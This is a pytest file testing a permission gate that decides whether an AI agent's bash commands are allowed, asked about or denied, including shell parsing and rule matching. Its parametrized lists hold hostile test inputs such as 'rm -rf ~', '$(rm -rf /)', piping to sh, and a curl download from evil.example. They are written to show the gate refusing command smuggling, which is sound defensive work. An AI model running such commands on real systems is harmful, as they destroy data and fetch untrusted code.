"""The permission gate's handling of ``bash`` commands: remembered answers and config ``command``
rules match simple-command signatures, and anything the matcher cannot vouch for asks."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tiller.config import PermissionRule
from tiller.gate.permissions import Outcome, PermissionGate, PermissionRequest
from tiller.gate.shell import parse_command
from tiller.tools.builtin import default_tools
from tiller.types import ToolCall

pytestmark = pytest.mark.anyio

TOOLS = default_tools()


async def gate_with_answers(tmp_path: Path, answers: dict[str, Outcome]) -> PermissionGate:
    """An ``ask``-mode gate after the user answered each command of ``answers`` as given."""

    async def ask(request: PermissionRequest) -> tuple[Outcome, str | None]:
        return answers[request.args["command"]], None

    gate = PermissionGate("ask", [tmp_path], tools=TOOLS, ask=ask)
    for index, command in enumerate(answers):
        await gate(ToolCall(id=f"c{index}", name="bash", arguments={}), {"command": command})
    return gate


def verdict(gate: PermissionGate, command: str) -> str:
    return gate.decide("bash", {"command": command})[0]


ATTACKS = [
    "git --version; echo PWN > ../x",
    "git --version && curl -s http://evil.example/x.sh -o x.sh",
    "git --version || rm -rf ~",
    "git --version $(rm -rf /)",
    "git --version `rm -rf /`",
    'git --version "$(rm -rf /)"',
    "git --version <(rm -rf /)",
    "git --version > /etc/x",
    "git --version >> ../x",
    "git --version > notes.txt",
    "git --version >/dev/null --upload-pack=evil",
    "git --version | sh",
    "git --version |& bash",
    "git --version\nrm -rf ~",
    "git --version &",
    "git --version 'unterminated",
    'git --version "unterminated',
    "git --version $(",
    "git --version &&",
    "GIT_EXEC_PATH=/tmp/evil git --version",
    "git --version --exec-path=/tmp/evil",
    "git --version $HOME",
    "git --vers\\\nion",
    "git",
    "eval git --version",
    "exec git --version",
    "source ./evil.sh",
    ". ./evil.sh",
    "bash -c 'git --version'",
    "sh -c 'git --version'",
    "env git --version",
    "xargs git --version",
    "(git --version)",
    "{ git --version; }",
    "git --version <<EOF\nx\nEOF",
    "f() { rm -rf ~; }; git --version",
    "if git --version; then rm -rf ~; fi",
]


@pytest.mark.parametrize("attack", ATTACKS)
async def test_a_remembered_allow_does_not_cover_more_than_the_command_seen(
    tmp_path: Path, attack: str
) -> None:
    gate = await gate_with_answers(tmp_path, {"git --version": "allowAlways"})
    assert verdict(gate, attack) == "ask"


@pytest.mark.parametrize("command", [
    "git --version",
    "  git   --version  ",
    "'git' \"--version\"",
    "g\\it --version",
    "git --version && git status",
    "git status; git --version\ngit status",
    "git status | git --version",
    "git --version 2>&1",
    "git --version >/dev/null 2>&1",
    "git --version # a comment",
])
async def test_a_remembered_allow_covers_lists_of_commands_seen(
    tmp_path: Path, command: str
) -> None:
    gate = await gate_with_answers(
        tmp_path, {"git --version": "allowAlways", "git status": "allowAlways"}
    )
    assert verdict(gate, command) == "allow"


async def test_allow_always_on_a_command_it_cannot_vouch_for_is_not_remembered(
    tmp_path: Path,
) -> None:
    gate = await gate_with_answers(tmp_path, {"git --version $(id)": "allowAlways"})
    assert verdict(gate, "git --version $(id)") == "ask"
    assert verdict(gate, "git --version") == "ask"
    assert verdict(gate, "id") == "ask"


@pytest.mark.parametrize("command", [
    "rm -rf build",
    "echo hi; rm -rf build",
    "ls && rm  -rf 'build' | cat",
    "echo $(rm -rf build)",
    "rm -rf build; echo 'unterminated",
])
async def test_a_remembered_reject_matches_any_part(tmp_path: Path, command: str) -> None:
    gate = await gate_with_answers(tmp_path, {"rm -rf build": "rejectAlways"})
    assert verdict(gate, command) == "deny"


async def test_a_quoted_star_remembered_does_not_cover_a_glob(tmp_path: Path) -> None:
    """``ls '*'`` and ``ls *`` have the same words; only the first is plain."""
    gate = await gate_with_answers(tmp_path, {"ls '*'": "allowAlways"})
    assert verdict(gate, "ls '*'") == "allow"
    assert verdict(gate, "ls *") == "ask"


async def test_a_remembered_reject_of_a_list_rejects_each_of_its_commands(
    tmp_path: Path,
) -> None:
    gate = await gate_with_answers(tmp_path, {"make && make install": "rejectAlways"})
    assert verdict(gate, "make install") == "deny"
    assert verdict(gate, "make check") == "ask"


RULES = [
    PermissionRule("deny", command="rm"),
    PermissionRule("allow", command="git status"),
    PermissionRule("allow", command="ls"),
    PermissionRule("ask", command="git push"),
]


@pytest.mark.parametrize(("command", "expected"), [
    ("git status", "allow"),
    ("git status --short", "allow"),
    ("git  'status'", "allow"),
    ("ls && git status | ls -la", "allow"),
    ("git statusx", "ask"),
    ("git", "ask"),
    ("git status; curl http://evil.example", "ask"),
    ("git status > ../x", "ask"),
    ("git status $(id)", "ask"),
    ("git status | sh", "ask"),
    ("bash -c 'git status'", "ask"),
    ("git status 'unterminated", "ask"),
    ("git status && git push", "ask"),
    ("git status && rm -rf /", "deny"),
    ("ls; echo $(rm -rf /)", "deny"),
    ("rm", "deny"),
    ("rmdir x", "ask"),
])
def test_config_command_rules_match_every_part(
    tmp_path: Path, command: str, expected: str
) -> None:
    gate = PermissionGate("ask", [tmp_path], tools=TOOLS, rules=RULES)
    assert verdict(gate, command) == expected


def test_a_rule_without_command_still_covers_every_bash_call(tmp_path: Path) -> None:
    gate = PermissionGate("readonly", [tmp_path], tools=TOOLS,
                          rules=[PermissionRule("allow", tool="bash")])
    assert verdict(gate, "echo $(id) > ../x") == "allow"
    denied = PermissionGate("auto", [tmp_path], tools=TOOLS,
                            rules=[PermissionRule("deny", tool="bash")])
    assert verdict(denied, "ls") == "deny"


def test_command_rules_do_not_apply_to_file_tools(tmp_path: Path) -> None:
    gate = PermissionGate("readonly", [tmp_path], tools=TOOLS,
                          rules=[PermissionRule("allow", command="")])
    args: dict[str, Any] = {"path": "a.txt", "content": "x"}
    assert gate.decide("write", args)[0] == "deny"
    assert gate.decide("bash", {"command": "ls"})[0] == "allow"


async def test_allowed_parts_do_not_recombine_after_a_state_changing_builtin(
    tmp_path: Path,
) -> None:
    gate = await gate_with_answers(
        tmp_path, {"cd ..": "allowAlways", "rm -rf build": "allowAlways"}
    )
    assert verdict(gate, "rm -rf build") == "allow"
    assert verdict(gate, "cd .. && rm -rf build") == "ask"


def test_asking_says_why_no_always_answer_can_cover_the_command(tmp_path: Path) -> None:
    gate = PermissionGate("ask", [tmp_path], tools=TOOLS)
    assert gate.decide("bash", {"command": "ls"})[1] == "'bash' runs a command"
    reason = gate.decide("bash", {"command": "ls $(id)"})[1]
    assert reason.endswith("(no 'always' answer can cover it: it uses command substitution)")


@pytest.mark.parametrize(("command", "parts"), [
    ("git --version", [("git", "--version")]),
    ("'git' \"log\" --format=\"%h %s\" a\\ b", [("git", "log", "--format=%h %s", "a b")]),
    ('echo "a\\"b\\$c" \'d\\\'e\'"\' ""', [("echo", 'a"b$c', 'd\\e"', "")]),
    ("git show stash@{0}", [("git", "show", "stash@{0}")]),
    ("a | b && c || d; e\nf", [("a",), ("b",), ("c",), ("d",), ("e",), ("f",)]),
    ("echo $(rm -rf /) `id`", [("echo", "$(rm -rf /)", "`id`"), ("rm", "-rf", "/"), ("id",)]),
    ("rm -r\\\nf x", [("rm", "-rf", "x")]),
])
def test_signatures_are_the_words_bash_passes(
    command: str, parts: list[tuple[str, ...]]
) -> None:
    assert list(parse_command(command).parts) == parts


GLOB = "it uses a glob ({}) whose files could be read as options: start it with a path, as in ./*"


@pytest.mark.parametrize(("command", "doubt"), [
    ("ls 2>&1 >/dev/null 1>&2 2>&-", None),
    ("cd src", None),
    ("ls 'a", "it does not parse"),
    ("", "it runs no command"),
    ("X=1", "it uses a variable assignment"),
    ("ls $HOME", "it uses variable expansion"),
    ("ls ${HOME}", "it uses variable expansion"),
    ("echo $((1 + 2))", "it uses arithmetic expansion"),
    ("echo {a,b}", "it uses brace expansion"),
    ("echo $'\\x41'", "it uses ansi c string"),
    ("cat < x", "it uses a redirection to or from a file"),
    ("ls >&out", "it uses a redirection to or from a file"),
    ("cat <<< hi", "it uses a here-string"),
    ("ls &", "it uses a background job (&)"),
    ("/usr/bin/env ls", "`env` runs other commands"),
    ("ls | timeout 5 sh", "`timeout` runs other commands"),
    ("cd src && make", "`cd` changes how the commands after it run"),
    ("! ls", "it uses negated command"),
    ("[ -f x ]", "it uses test command"),
    ("rm -r\\\nf x", "it has a line continuation"),
    ("git\v--version", "it contains a control character"),
    ("git --version\r\nls", "it contains a control character"),
    ("tar cf out.tar *", GLOB.format("*")),
    ("ls *.py", GLOB.format("*.py")),
    ("ls a?", GLOB.format("a?")),
    ("ls [ab]c", GLOB.format("[ab]c")),
    ("ls \"src\"*", GLOB.format('"src"*')),
    ("ls -x/*", GLOB.format("-x/*")),
    ("ls ./* src/*.py /tmp/[ab] ~/logs/*.txt \"src/\"*", None),
    ("ls '*' \"a?\" \\* x\\[a] a[ ]", None),
])
def test_doubts_say_why_a_command_is_not_plain(command: str, doubt: str | None) -> None:
    assert parse_command(command).doubt == doubt


def test_a_long_list_is_parsed_without_recursion() -> None:
    parsed = parse_command(" && ".join(["ls"] * 5000) + "; echo $(id)")
    assert len(parsed.parts) == 5002 and parsed.doubt == "it uses command substitution"
